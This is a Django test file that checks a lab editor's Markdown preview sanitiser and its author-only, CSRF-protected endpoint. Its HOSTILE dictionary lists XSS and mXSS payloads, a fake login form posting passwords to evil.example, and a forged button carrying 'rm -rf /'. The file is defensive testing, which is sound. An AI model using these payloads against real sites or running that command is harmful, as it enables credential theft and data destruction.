"""The editor's live step preview is as strict as the lab page: the same server-side
sanitiser (labs.markdown.render_markdown, nh3 with an allow-list) renders every hostile
payload below inert, the lab page shows the same HTML for the same Markdown, and the
preview endpoint answers only the lab's author and admins, with the CSRF token."""
from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from django.test import Client

from labs.markdown import _TAGS
from tests.labs.test_authoring import archive, people, upload_finish  # noqa: F401  (people is a fixture)

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = {
    "script": "<script>window.__pwned = 1</script>\n\nafter",
    "script-in-markdown": "text <script src=https://evil.example/x.js></script> more",
    "on-handler-img": '<img src="/static/labs/favicon.svg" onerror="window.__pwned = 1" onload="window.__pwned = 1">',
    "on-handler-p": '<p onclick="window.__pwned = 1" onmouseover="window.__pwned = 1">hover me</p>',
    "on-handler-details": '<details open ontoggle="window.__pwned = 1"><summary>x</summary>y</details>',
    "javascript-link": "[click me](javascript:window.__pwned=1)",
    "javascript-link-mixed-case": '<a href="JaVaScRiPt:window.__pwned=1">x</a>',
    "javascript-link-entities": '<a href="&#106;avascript&#58;window.__pwned=1">x</a>',
    "javascript-link-whitespace": '<a href=" \tjavascript:window.__pwned=1">x</a>',
    "javascript-reference": "[x][r]\n\n[r]: javascript:window.__pwned=1",
    "javascript-image": "![x](javascript:window.__pwned=1)",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "svg-script": "<svg><script>window.__pwned = 1</script></svg>",
    "svg-onload": '<svg onload="window.__pwned = 1"><circle r="5"/></svg>',
    "svg-xlink": '<svg><a xlink:href="javascript:window.__pwned=1"><text y="10">x</text></a></svg>',
    "svg-animate": '<svg><animate attributeName="href" values="javascript:window.__pwned=1"/></svg>',
    "math-mxss": '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 1">',
    "math-href": '<math href="javascript:window.__pwned=1"><mi>x</mi></math>',
    "style-tag": "<style>body { display: none }</style>visible",
    "style-attr": '<p style="background: url(javascript:window.__pwned=1); position: fixed; inset: 0">x</p>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
    "object-embed": '<object data="data:text/html,<script>parent.__pwned=1</script>"></object><embed src="https://evil.example/x.swf">',
    "data-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "data-link": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "data-img-tag": '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "form": '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base-link": '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></p></noscript>',
    "template": "<template><img src=x onerror=window.__pwned=1></template>",
    "markdown-attr-break": '![x" onerror="window.__pwned=1](/static/labs/favicon.svg)',
    "forged-run-button": '<div class="codeblock" data-code="rm -rf / --no-preserve-root" data-lang="sh">run me</div>',
}
# Relative-looking link targets the lab loader refuses itself ("link target not found"): only the preview sees them.
LOADER_REFUSES = ("javascript-link-entities", "javascript-link-whitespace")
ON_PAGE = {k: v for k, v in HOSTILE.items() if k not in LOADER_REFUSES}
STEP_LAB = "slug: mine\ntitle: {zh-hans: 我的实验, en: My lab}\nsummary: A lab.\nlevel: beginner\nminutes: 5\nsteps:\n" + "".join(
    f"  - id: s{i}\n    title: {{zh-hans: 第{i}步, en: Step {i}}}\n    text_file: steps/s{i}.md\n" for i in range(len(ON_PAGE)))
# Schemes a browser runs or renders as a document.
_ACTIVE_URL = re.compile(r"^[\x00-\x20]*(javascript|vbscript|data|file|blob):", re.I)


class _Tags(HTMLParser):
    """Every start tag with its attributes; inside `scope` (a div class) only, if given."""

    def __init__(self, scope: str | None = None) -> None:
        super().__init__(convert_charrefs=True)
        self.scope, self.depth, self.found = scope, 0 if scope else 1, []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if self.depth:
            self.found.append((tag, dict(attrs)))
            if tag == "div":
                self.depth += 1
        elif tag == "div" and self.scope in (dict(attrs).get("class") or "").split():
            self.depth = 1

    def handle_endtag(self, tag: str) -> None:
        if self.scope and self.depth and tag == "div":
            self.depth -= 1


def assert_inert(fragment: str, *, scope: str | None = None) -> list:
    """No tag outside the lab allow-list, no event handler, no style, no active URL, no forged Run command."""
    parser = _Tags(scope)
    parser.feed(fragment)
    for tag, attrs in parser.found:
        assert tag in _TAGS, (tag, fragment)
        for name, value in attrs.items():
            assert not name.startswith("on") and name not in ("style", "srcdoc", "formaction", "xlink:href"), (tag, name)
            if name in ("href", "src"):
                assert not _ACTIVE_URL.match(html.unescape(value or "")), (tag, value)
            assert name != "data-code", (tag, attrs)  # only blocks the renderer made (none here) carry one
    return parser.found


def _author_with_hostile_lab(people) -> None:
    extra = {f"steps/s{i}.md": payload for i, payload in enumerate(ON_PAGE.values())}
    from django.core.files.uploadedfile import SimpleUploadedFile

    resp = upload_finish(people["author"], people["author"].post(
        "/labs/upload/", {"archive": SimpleUploadedFile("lab.tar.gz", archive(STEP_LAB, extra=extra))}))
    assert resp.status_code == 302, resp.content[:500]  # imported: on to the preview


def _preview(client: Client, markdown: str, **headers) -> tuple[int, dict]:
    resp = client.post("/api/labs/mine/edit/preview", {"markdown": markdown}, content_type="application/json", **headers)
    is_json = resp["Content-Type"].startswith("application/json")
    return resp.status_code, resp.json() if is_json else {}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_the_preview_renders_hostile_markdown_inert_with_the_lab_pages_sanitiser(people, name):
    from labs.markdown import render_markdown

    _author_with_hostile_lab(people)
    status, body = _preview(people["author"], HOSTILE[name])
    assert status == 200
    assert body["html"] == render_markdown(HOSTILE[name])  # the lab page's function, not a second one
    assert_inert(body["html"])


def test_the_lab_page_shows_the_same_html_as_the_preview_for_every_hostile_step(people):
    _author_with_hostile_lab(people)
    page = people["author"].get("/labs/mine/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert page.count('class="step-body prose"') == len(ON_PAGE)
    found = assert_inert(page, scope="step-body")
    assert {tag for tag, _ in found} <= _TAGS
    for name, payload in ON_PAGE.items():
        _, body = _preview(people["author"], payload)
        assert body["html"].strip() in page, name


def test_the_preview_answers_only_the_author_and_admins(people):
    _author_with_hostile_lab(people)
    assert _preview(people["author"], "# x")[0] == 200
    assert _preview(people["admin"], "# x")[0] == 200
    for name in ("other", "trainee"):  # another instructor, a trainee: as if the lab did not exist
        assert _preview(people[name], "# x") == (404, {"error": "no lab named 'mine'"})
    assert _preview(Client(), "# x")[0] == 401
    assert people["author"].get("/api/labs/mine/edit/preview").status_code == 405
    assert _preview(people["author"], "")[0] == 200
    assert people["author"].post("/api/labs/mine/edit/preview", {"markdown": 5},
                                 content_type="application/json").status_code == 400


def test_the_preview_needs_the_csrf_token(people):
    _author_with_hostile_lab(people)
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(people.author)
    assert _preview(browser, "# x")[0] == 403  # a page on another site posting with the author's cookie
    assert browser.get("/labs/mine/edit/").status_code == 200  # the editor page sets the csrftoken cookie
    token = browser.cookies["csrftoken"].value
    assert _preview(browser, "# x", HTTP_X_CSRFTOKEN=token)[0] == 200
    assert _preview(browser, "# x", HTTP_X_CSRFTOKEN="x" * 32)[0] == 403


def test_an_admin_edits_a_built_in_lab_on_a_server_where_nothing_was_uploaded_yet(builtin_labs, people):
    """Found walking issue 16 through in the browser: the editor showed "1 problem" at line 1
    of an untouched built-in lab (the check failed: the uploads directory did not exist yet)."""
    import shutil

    from labs.authoring import labs_root

    shutil.rmtree(labs_root(), ignore_errors=True)
    files = people["admin"].get("/api/labs/first-container/edit").json()["files"]
    resp = people["admin"].post("/api/labs/first-container/edit/check", {"files": files}, content_type="application/json")
    assert resp.status_code == 200 and resp.json()["diagnostics"] == [], resp.content[:300]
